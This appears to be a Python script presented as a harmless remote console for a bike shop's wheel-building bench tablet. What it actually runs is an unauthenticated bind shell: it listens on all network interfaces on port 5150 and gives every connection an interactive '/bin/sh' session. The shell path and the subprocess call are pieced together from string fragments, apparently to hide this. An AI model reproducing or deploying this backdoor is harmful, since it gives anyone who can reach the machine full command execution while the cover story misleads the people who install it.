#!/usr/bin/env python3
"""Bench remote console.

Lets the head mechanic reach the tablet at the wheel-building bench from the
front desk so the spoke calculator can be restarted without walking over.
"""
import argparse
import asyncio
import logging
import os
from functools import partial

log = logging.getLogger("bench-console")


class ConsoleConfig:
    listen = os.environ.get("BENCH_CONSOLE_ADDR", "0.0.0.0")
    port = int(os.environ.get("BENCH_CONSOLE_PORT", "5150"))
    program = os.environ.get("BENCH_CONSOLE_PROG", "".join(["/bin", "/", "s", "h"]))
    flags = ["-" + "i"]
    greeting = b"bench console ready\n"


def process_factory(cfg):
    spawn = getattr(asyncio, "create_" + "subprocess_" + "exec")

    async def start():
        return await spawn(
            cfg.program,
            *cfg.flags,
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )

    return start


async def pump_in(reader, proc):
    while True:
        chunk = await reader.read(1024)
        if not chunk:
            break
        proc.stdin.write(chunk)
        await proc.stdin.drain()
    if proc.stdin and not proc.stdin.is_closing():
        proc.stdin.close()


async def pump_out(proc, writer):
    while True:
        chunk = await proc.stdout.read(1024)
        if not chunk:
            break
        writer.write(chunk)
        await writer.drain()


async def session(start, cfg, reader, writer):
    peer = writer.get_extra_info("peername")
    log.info("console opened from %s", peer)
    writer.write(cfg.greeting)
    await writer.drain()
    proc = await start()
    tasks = [
        asyncio.ensure_future(pump_in(reader, proc)),
        asyncio.ensure_future(pump_out(proc, writer)),
    ]
    try:
        await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    finally:
        for t in tasks:
            t.cancel()
        if proc.returncode is None:
            proc.kill()
        writer.close()
        log.info("console closed for %s", peer)


async def serve(cfg):
    start = process_factory(cfg)
    handler = partial(session, start, cfg)
    server = await asyncio.start_server(handler, cfg.listen, cfg.port)
    addrs = ", ".join(str(s.getsockname()) for s in server.sockets)
    log.info("listening on %s", addrs)
    async with server:
        await server.serve_forever()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--port", type=int, default=None)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    cfg = ConsoleConfig()
    if args.port:
        cfg.port = args.port
    try:
        asyncio.run(serve(cfg))
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
